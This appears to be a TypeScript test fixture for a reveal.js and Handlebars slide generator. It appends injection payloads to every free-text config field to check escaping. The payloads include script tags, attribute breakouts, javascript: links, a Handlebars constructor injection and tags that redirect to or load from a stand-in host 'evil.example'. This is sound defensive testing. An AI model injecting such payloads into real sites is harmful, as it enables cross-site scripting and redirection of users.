// Hostile text for every free-text field of a config: markup breakouts, attribute and URL
// payloads, reveal.js directives, Handlebars syntax, replacement patterns, bidi and emoji.
// Equal texts get the same payload, so names stay equal (supporters must match the audience).

export const SCRIPT_PAYLOADS = [
  '<script>alert(1)</script>',
  '</section><section data-kind="injected"><h1>injected</h1>',
  '</script><script>alert(2)</script>',
  '<!-- .slide: data-background-iframe="https://evil.example" -->',
  '<img src=x onerror=alert(3)>',
  '" onmouseover="alert(4)" x="',
  "' autofocus onfocus='alert(5)' x='",
  '<svg><script>alert(6)</script></svg>',
  '<iframe srcdoc="<script>alert(7)</script>"></iframe>',
  '<a href="javascript:alert(8)">click</a>',
  '<!--',
  '<style>*{display:none}</style>',
  '<section data-markdown><textarea data-template>## injected</textarea></section>',
  '{{constructor.constructor "alert(9)"}}',
  '{{{raw}}} {{> notes}} {{#each this}}x{{/each}}',
  '$& $1 $` $\' ${alert(10)}',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input autofocus></form>',
] as const;

export const TEXT_PAYLOADS = [
  'مرحبا \u202Eبالعالم', // Arabic with an unterminated right-to-left override
  'שלום \u2069 stray isolate end', // Hebrew with a stray POP DIRECTIONAL ISOLATE
  '👩‍👩‍👧‍👦 family, 🇨🇳 flag, 👍🏽 thumbs', // emoji sequences that must not be split
  '\u2067unclosed right-to-left isolate',
] as const;

const NOT_TEXT = new Set(['language', 'role', 'decision', 'stance', 'value', 'positioning', 'structure', 'requested_by', 'technique', 'theme', 'product', 'id', 'currency', 'date', 'email', 'website', 'logo', 'focus', 'features', 'cases', 'at']);

/** Appends a payload to every free-text string, keeping ids and enum values intact. */
export function poison(node: unknown, payloads: readonly string[]): unknown {
  // Round robin over distinct texts, so every payload is used and equal texts stay equal.
  const chosen = new Map<string, string>();
  const visit = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') {
      if (NOT_TEXT.has(key)) return value;
      if (!chosen.has(value)) chosen.set(value, payloads[chosen.size % payloads.length] ?? '');
      return `${value} ${chosen.get(value)}`;
    }
    if (Array.isArray(value)) return value.map((item) => visit(item, key));
    if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, visit(v, k)]));
    return value;
  };
  return visit(node, '');
}
